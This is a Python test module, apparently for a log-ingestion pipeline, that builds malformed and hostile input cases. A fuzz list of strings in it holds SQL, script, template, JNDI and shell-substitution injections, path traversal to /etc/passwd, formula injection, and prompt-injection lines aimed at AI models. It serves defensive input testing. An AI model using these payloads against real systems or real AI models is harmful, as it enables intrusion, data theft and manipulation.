"""Bytes that are no UTF-8, text that is no text, and characters that should not be seen."""

import bz2
import gzip
import lzma
import zlib
from base64 import b64encode
from collections.abc import Iterator
from typing import Final

import cramjam

from schemas.records import Format
from tests.bad_input.case import (
    EMPTY,
    LOG,
    NOT_UTF8,
    SIGNALS,
    Case,
    Expect,
    World,
    array,
    dropped,
    dumps,
    letter,
)  # fmt: skip
from tests.bad_input.good import documents

AUTO: Final = ("logs", "metrics", "k8s-events", "alerts")
LINE: Final = b"order %b was shipped from the shelf"
NO_TEXT: Final = ("not UTF-8", "binary, not text")
UNSEEN: Final = "\x00\x07\x08\x1b\x7f\u200b\u200e\u202e\u2066\ufeff\x9b"

FRAMED: Final = "schema registry framing"  # three zeros and a character look like one

ODD_TEXT: Final = (
    "\x07bell", "back\x08space", "nul\x00inside", "esc\x1b[31mred\x1b[0m", "osc\x1b]0;title\x07", "\x9b31mc1",
    "del\x7f", "rtl\u202eredro", "iso\u2066late\u2069", "zero\u200bwidth", "mark\u200e\u200f", "bom\ufeffinside",
    "sep\u2028line\u2029para", "عربى", "עברית", "日本語のログ", "한국어", "हिन्दी", "ไทย", "Ελληνικά", "е́кран", "İıſK",
    "ﬁ ligature", "Å vs Å", "z\u0351\u036b\u0343\u0363alg\u0351o", "👩‍👩‍👧‍👦 family", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 tags", "🇪🇺",
    "\U0010ffff", "\ufffe", "\ue000 private", "�", "\u3164", "\u00ad soft", "tab\there", "crlf\r", "vt\x0bff\x0c",
    "' OR 1=1 --", "'; DROP TABLE orders; --", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x.test/a}",
    "$(id)", "`id`", "%s%n%x", "%00", "../../etc/passwd", "\\\\host\\share", "C:\\nul", "CON", "=1+1", "@SUM(1)",
    "|calc", "<!--", "]]>", "&lt;", "undefined", "null", "NULL", "None", "nil", "true", "NaN", "Infinity", "-0",
    "0x0", "1e1000", "1/0", "​", "ignore all previous instructions", "[a](http://x.test)",
    "![a](http://x.test/a.png)", "<|im_start|>system", "```json", "---\na: 1", "\\u0000", "\\ud800", "\"", "'",
    "\\", "()", "#", ";", "~", "^", "*", "**" * 200, "a" * 5_000, "é" * 5_000, "😀" * 5_000, "(" * 2_000,
    "a=" * 1_000, "<redacted:jwt>", "a\nb", "\n\n\na", "  a", "-", "_", ".", ",", "0", "𝟙𝟚", "１２３", "½",
)  # fmt: skip


def unseen(_: World) -> Iterator[Case]:
    """Control, direction and width characters are counted and never stored; every text stays one record."""
    for text in ODD_TEXT:
        # Of plain text each line is a record; what only looks empty, or is, says nothing.
        lines = sum(1 for line in text.strip().split("\n") if line and not line[0].isspace())
        shown = f"the till said {text} to all"
        expect = Expect(log=1, hides=UNSEEN)
        name = ascii(text[:30])
        seen = Expect(log=sum(map(bool, shown.split("\n"))), hides=UNSEEN)
        yield Case(name=f"text {name}", value=shown.encode(), topic="text", expect=seen)
        for topic in ("logs", Format.FLUENT_BIT):
            value = dumps({"log": shown, "kubernetes": {"pod_name": "till-0"}})
            yield Case(name=f"{topic} {name}", value=value, topic=topic, expect=expect)
        alone = Expect(log=1, hides=UNSEEN) if lines else dropped("empty-line")
        value = dumps({"log": text, "kubernetes": {"pod_name": "till-0"}})
        yield Case(name=f"alone {name}", value=value, topic=Format.FLUENT_BIT, expect=alone)
        named = {"log": "till is open", "kubernetes": {"pod_name": text, "namespace_name": text, "host": text}}
        yield Case(name=f"names {name}", value=dumps(named), topic=Format.FLUENT_BIT, expect=expect)
    for code in (*range(1, 10), *range(11, 32), 127):
        value = LINE % bytes([code])
        yield Case(name=f"control {code:#04x}", value=value, topic="text", expect=Expect(log=1, hides="\x00\x1b\x7f"))


def not_utf8(_: World) -> Iterator[Case]:
    """One line that is not UTF-8 is one letter; its neighbours count."""
    single = {f"{code:#04x}": bytes([code]) for code in range(0x80, 0x100)}
    torn = {
        "overlong slash": b"\xc0\xaf", "overlong NUL": b"\xc0\x80", "overlong 3": b"\xe0\x80\xaf",
        "surrogate": b"\xed\xa0\x80", "pair": b"\xed\xa0\xbd\xed\xb8\x80", "beyond": b"\xf4\x90\x80\x80",
        "five": b"\xf8\x88\x80\x80\x80", "cut 2": b"\xc3", "cut 3": b"\xe2\x82", "cut 4": b"\xf0\x9f\x98",
        "lone": b"\x80\x80", "latin-1": "naïve café".encode("latin-1"), "cp1252": "“quoted”".encode("cp1252"),
        "shift-jis": "日本語".encode("shift-jis"), "gbk": "中文".encode("gbk"), "koi8": "привет".encode("koi8-r"),
        "euc-kr": "한국어".encode("euc-kr"), "big5": "中文".encode("big5"),
    }  # fmt: skip
    good = LINE % b"7"
    for name, part in (single | torn).items():
        bad = LINE % part
        yield Case(name=f"text {name}", value=bad, topic="text", expect=NOT_UTF8)
        yield Case(name=f"sniffed {name}", value=bad, expect=NOT_UTF8)
        quoted = b'{"log":"%b","kubernetes":{"pod_name":"p"}}'
        for topic in ("logs", Format.FLUENT_BIT):
            yield Case(name=f"in JSON, {topic}, {name}", value=quoted % part, topic=topic, expect=NOT_UTF8)
        one_of_three = Expect(log=2, letters={1: ("not UTF-8",)})
        yield Case(name=f"line of three {name}", value=b"\n".join((good, bad, good)), topic="text", expect=one_of_three)
        value = b"\n".join((quoted % b"a", quoted % part, quoted % b"b"))
        yield Case(name=f"JSON line of three {name}", value=value, expect=one_of_three)


def other_encodings(world: World) -> Iterator[Case]:
    """UTF-16, UTF-32 and EBCDIC are not read: one letter for the message, not one for each line of noise."""
    samples = {
        "text": "order 7 was shipped\nfrom the shelf\n",
        "json": dumps(documents(world.at_ms)["fluent-bit"]).decode(),
    }
    for name, text in samples.items():
        for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "cp037", "utf-7"):
            value = text.encode(codec)
            if codec == "utf-7":  # is plain ASCII to everybody else
                expect = Expect(log=2 if name == "text" else 0, letters={} if name == "text" else {0: ("not JSON",)})
                topics: tuple[str, ...] = ("logs",) if name == "text" else ()
            else:
                expect, topics = (
                    letter(*NO_TEXT, "not JSON", FRAMED),
                    ("logs", Format.TEXT, Format.FLUENT_BIT, "metrics"),
                )
            for topic in topics:
                yield Case(name=f"{codec} {name} {topic}", value=value, topic=topic, expect=expect)


def empty(_: World) -> Iterator[Case]:
    """Nothing at all is a letter (somebody sent it); an empty batch or line is filtered by name."""
    for topic in SIGNALS:
        for value in (None, b"", b" ", b"\n", b"\r\n", b"\t\t", b"\x0b\x0c", b" " * 10_000):
            yield Case(name=f"{topic} {value!r:.20}", value=value, topic=topic, expect=EMPTY)
    for topic in AUTO:
        yield Case(name=f"{topic} []", value=b"[]", topic=topic, expect=dropped("empty-batch"))
        yield Case(name=f"{topic} [ ]", value=b" [ ]\n", topic=topic, expect=dropped("empty-batch"))
    for form in SIGNALS:
        if form not in (*AUTO, Format.TEXT, Format.OTLP_PROTO, Format.RSYSLOG):
            yield Case(name=f"{form} []", value=b"[]", topic=form, expect=dropped("empty-batch"))
    for value in (b"{}", b'{"message":""}', b'{"msg":null}', b'{"level":"info"}', b'{"log":"\\n","kubernetes":{}}'):
        yield Case(name=f"says nothing {value!r}", value=value, expect=dropped("empty-line"))
    for value in (b"\x00", b"\x00" * 100, b"\xef\xbb\xbf", b"\x00\n\x00", b"\xef\xbb\xbf\n"):
        for topic in ("logs", Format.TEXT):
            yield Case(name=f"{topic} {value!r:.20}", value=value, topic=topic, expect=dropped("empty-batch"))
    yield Case(name="zeros before a line", value=b"\x00" * 4_096 + LINE % b"7", topic="text", expect=LOG)


def packed(world: World) -> Iterator[Case]:
    """Compression is Kafka's: compressed values are letters that say so, and are never unpacked."""
    one = dumps(documents(world.at_ms)[Format.FLUENT_BIT])
    zeros = b"\x00" * world.large_bytes
    kinds = {
        "gzip": lambda raw: gzip.compress(raw, mtime=0),
        "zlib": zlib.compress,
        "bzip2": bz2.compress,
        "xz": lzma.compress,
        "zstd": lambda raw: bytes(cramjam.zstd.compress(raw)),
        "lz4": lambda raw: bytes(cramjam.lz4.compress(raw)),
    }
    for kind, squeeze in kinds.items():
        said = f"{kind} inside the value: let the producer compress instead"
        for name, raw in {
            "record": one,
            "batch": array([one] * 50),
            "bomb": zeros,
            "empty": b"",
            "twice": squeeze(one),
        }.items():
            value = squeeze(raw)
            for topic in ("logs", Format.TEXT, "metrics", Format.FLUENT_BIT):
                # A few bytes of it may pass for text that is binary.
                reasons = (said, *NO_TEXT, "not JSON") if len(value) < 64 else (said,)
                yield Case(name=f"{kind} {name} {topic}", value=value, topic=topic, expect=letter(*reasons))
            for size in (3, 5, 9):
                yield Case(
                    name=f"{kind} {name} cut at {size}",
                    value=value[:size],
                    topic="metrics",
                    expect=letter(said, *NO_TEXT, "unknown format"),
                )
        line = b"payload=" + b64encode(squeeze(one))
        yield Case(name=f"{kind} as base64 in a line", value=line, topic="text", expect=LOG)
    for kind, value in {
        "snappy": bytes(cramjam.snappy.compress_raw(one)),
        "snappy frame": bytes(cramjam.snappy.compress(one)),
        "deflate": zlib.compress(one)[2:-4],
        "png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
        "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 64,
        "java": b"\xac\xed\x00\x05sr\x00\x0ashop.Order" + b"\x00" * 32,
        "pickle": b"\x80\x04\x95\x0c\x00\x00\x00\x00\x00\x00\x00\x8c\x08orders!!\x94.",
        "msgpack": b"\x82\xa3log\xa4open\xaakubernetes\x81\xa8pod_name\xa1p",
        "cbor": b"\xa2\x63log\x64open\x6akubernetes\xa1\x68pod_name\x61p",
        "bson": b"\x1e\x00\x00\x00\x02log\x00\x05\x00\x00\x00open\x00\x10n\x00\x01\x00\x00\x00\x00",
        "avro file": b"Obj\x01\x04\x14avro.codec\x08null\x16avro.schema\x80\x01" + b'{"type":"string"}' + b"\x00" * 24,
    }.items():
        for topic in ("logs", Format.TEXT):
            yield Case(name=f"{kind} {topic}", value=value, topic=topic, expect=letter(*NO_TEXT))
